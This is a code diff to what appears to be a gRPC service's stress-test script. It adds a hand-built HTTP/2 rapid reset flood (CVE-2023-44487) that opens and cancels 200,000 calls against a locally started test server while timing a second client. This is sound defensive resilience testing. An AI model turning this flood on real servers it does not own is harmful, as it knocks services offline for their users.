@@ -5,6 +5,8 @@ latency, the server's peak RSS growth).
 - `streams`: N concurrent calls on one channel past grpc_max_streams: a bare grpcio stub's, then the SDK's.
 - `missing`: MissingTensors naming 10^6 hashes (over the 2^18 a question may name) and 2^18 (allowed).
 - `put`: PutTensors of 10^6 empty tensors (past max_tensors).
+- `reset`: rapid reset (CVE-2023-44487): one connection opens 200 K MissingTensors calls, each reset at once
+  (RST_STREAM CANCEL), frames written by hand (tests/e2e/h2_raw.py); a second channel's calls are timed too.
 
     PYTHONPATH=$PWD:$PWD/clients/python:$PWD/tests python benchmarks/grpc_stream_attacks.py [streams] [missing] [put]
 """
@@ -20,10 +22,12 @@ import grpc
 
 from body_shape_attacks import attack
 from e2e.grpc_wire import open_channel
+from e2e.h2_raw import RST_STREAM, RawH2, call_frames, frame
 from e2e.server import Server
 from service.proto import gradserve_pb2 as pb, gradserve_pb2_grpc as pb_grpc
 
 HASH = "ab" * 32
+MISSING = "/gradserve.v1.Gradserve/MissingTensors"
 
 
 def concurrently(n: int, one) -> tuple[str, str]:
@@ -61,6 +65,52 @@ def one_call(stub, method: str, m):
     return go
 
 
+def rapid_reset(s: Server, stub, n: int = 200_000, batch: int = 500) -> tuple[str, str]:
+    """n calls opened and reset at once on one raw connection while a second channel asks MissingTensors: (how
+    far the attacker got, the other channel's worst call)."""
+    h = RawH2(s.grpc_target)
+    msg = pb.MissingTensorsRequest(sha256=[HASH]).SerializeToString()
+    stop, worst = threading.Event(), [0.0]
+
+    def drain():  # a live peer: reads what the server sends and acknowledges its SETTINGS and PINGs
+        try:
+            while not stop.is_set():
+                h.serve_control(*(lambda k, f, _, p: (k, f, p))(*h.read_frame()))
+        except (ConnectionError, OSError):
+            return
+
+    def other():
+        import time
+        while not stop.is_set():
+            t0 = time.perf_counter()
+            try:
+                stub.MissingTensors(pb.MissingTensorsRequest(sha256=[HASH]), timeout=60)
+            except grpc.RpcError:
+                pass
+            worst[0] = max(worst[0], time.perf_counter() - t0)
+            time.sleep(0.05)
+
+    ths = [threading.Thread(target=drain, daemon=True), threading.Thread(target=other)]
+    [t.start() for t in ths]
+    sent = 0
+    try:
+        while sent < n:
+            out = []
+            for _ in range(batch):
+                sid = h.next_stream
+                h.next_stream += 2
+                out.append(call_frames(sid, MISSING, msg) + frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big")))
+            h.sock.sendall(b"".join(out))
+            sent += batch
+        result = f"{sent} opened and reset"
+    except OSError as e:
+        result = f"connection closed after {sent} ({type(e).__name__})"
+    stop.set()
+    ths[1].join()
+    h.close()
+    return result, f"the other channel's worst call {worst[0] * 1e3:.0f} ms"
+
+
 def main(which: list[str]) -> None:
     s = Server(Path(tempfile.mkdtemp()) / "server.log", devices="cpu", base_env={}, env={"GRADSERVE_CPU_WORKERS": "1"})
     try:
@@ -81,6 +131,8 @@ def main(which: list[str]) -> None:
             for n in (10 ** 6, 1 << 18):
                 attack(s, f"MissingTensors of {n} hashes", one_call(stub, "MissingTensors",
                                                                    pb.MissingTensorsRequest(sha256=[HASH] * n)))
+        if "reset" in which:
+            attack(s, "rapid reset, 200 K calls on one connection", lambda: rapid_reset(s, stub))
         if "put" in which:
             m = pb.PutTensorsRequest()
             m.tensors.extend([pb.Tensor()] * 10 ** 6)
